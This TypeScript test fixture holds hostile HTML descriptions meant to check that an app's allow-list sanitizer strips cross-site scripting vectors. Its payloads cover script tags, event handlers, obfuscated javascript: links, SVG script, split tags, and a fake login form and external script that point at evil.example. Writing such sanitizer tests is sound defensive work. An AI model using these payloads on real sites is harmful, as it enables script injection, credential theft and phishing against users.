// Thing descriptions written to break a careless renderer. Real descriptions are HTML written by
// strangers and Thingiverse sends them as they are, so the app must sanitize; these try every trick
// the app's allow-list has to stop. Seeded on a few things (see seed.ts) and never escaped here.

export const HOSTILE_DESCRIPTIONS: readonly string[] = [
  // 0: script in every spelling
  '<script>document.title="pwned-script"</script><p>Script above.</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  // 1: event handlers
  '<p onclick="alert(1)" onmouseover="alert(2)">Hover me</p><img src="x" onerror="alert(3)"><body onload="alert(4)">',
  // 2: javascript: and data: links, with case and entity tricks
  '<a href="javascript:alert(5)">Download STL</a> <a href="JaVaScRiPt:alert(6)">mixed case</a> ' +
    '<a href="&#106;avascript:alert(7)">entity</a> <a href=" javascript:alert(8)">space</a> ' +
    '<a href="data:text/html,<script>alert(9)</script>">data</a> <a href="https://example.com/ok">a fine link</a>',
  // 3: style that hides or covers the page
  '<style>body{display:none}</style><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Styled</p>' +
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  // 4: frames and plugins
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(10)</script>"></iframe>' +
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  // 5: SVG and MathML carrying script
  '<svg onload="alert(11)"><script>alert(12)</script><a xlink:href="javascript:alert(13)"><text y="20">svg</text></a></svg>' +
    '<math><mtext><img src=x onerror=alert(14)></mtext></math>',
  // 6: broken markup: unclosed tags, stray closers, comments and split tags
  '<p>Unclosed <b>bold <i>italic <a href="https://example.com/ok">link</p></div></div>' +
    '<!-- <script>alert(15)</script> --><scr<script>ipt>alert(16)</scr</script>ipt><p <p>>double</p><img src="x" alt="a\'"onerror=alert(17)//">',
  // 7: forms, meta refresh, base, tracking pixels and foreign images
  '<form action="https://evil.example/steal"><input name="token"><button>Log in again</button></form>' +
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">' +
    '<img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="data:image/svg+xml,<svg onload=alert(18)>">',
];
